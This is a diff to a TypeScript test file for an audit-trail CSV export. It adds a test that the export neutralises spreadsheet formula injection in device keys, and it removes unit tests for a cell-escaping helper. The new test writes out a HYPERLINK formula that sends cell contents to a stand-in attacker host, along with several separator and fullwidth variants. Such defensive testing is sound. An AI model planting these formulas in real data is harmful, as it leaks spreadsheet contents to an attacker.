@@ -1,6 +1,5 @@
 import { describe, expect, it } from 'vitest';
 import type { AuditEvent } from '../../contract/audit-events.ts';
-import { csvCell as cell } from '../csv.ts';
 import type { NewRow } from '../db/schema.ts';
 import { ENGINES, type Engine, makeUser } from '../testing.ts';
 import { type TestPlant, testPlant } from '../testing-plant.ts';
@@ -157,6 +156,16 @@ describe.each(ENGINES)('the audit trail on %s', (engine: Engine) => {
     );
   });
 
+  it('brings the auditor no key of a device that his spreadsheet would run, by whichever separator he opens it', async () => {
+    const plant = await testPlant(engine);
+    const formula = '=HYPERLINK("http://zlo.example/?x="&A1,"Chyba")';
+    const keys = [formula, `teplota;${formula}`, `teplota\t${formula}`, `＝${formula.slice(1)}`, ` ${formula}`];
+    expect((await plant.post(Object.fromEntries(keys.map((key, i) => [key, -i - 1])))).status).toBe(200);
+    const { text } = await csv(plant, '', await plant.member('auditor'));
+    expect(text).toContain('HYPERLINK');
+    for (const cell of text.split(/[,;\t\r\n]/)) expect(cell).not.toMatch(/^[\s"]*[=＝]/);
+  });
+
   it('goes out page by page as it is read, each row once, and stops when the reader goes', async () => {
     const plant = await testPlant(engine);
     const row = {
@@ -188,26 +197,6 @@ describe.each(ENGINES)('the audit trail on %s', (engine: Engine) => {
     await reader.cancel();
     expect(reads).toBe(1);
     plant.deps.db.read = read;
-  });
-});
-
-describe('a cell', () => {
-  it.each([
-    ['=1+1', "'=1+1"],
-    ['+420', "'+420"],
-    ['-1', "'-1"],
-    ['@sum', "'@sum"],
-    ['\tx', "'\tx"],
-    ['\rx', '"\'\rx"'],
-    [-1.5, '-1.5'],
-    ['a"b', '"a""b"'],
-    ['a,b', '"a,b"'],
-    [null, ''],
-    [undefined, ''],
-    [false, 'false'],
-    [['a', 'b'], '"[""a"",""b""]"'],
-  ])('of %j is %j', (value, text) => {
-    expect(cell(value)).toBe(text);
   });
 });
 
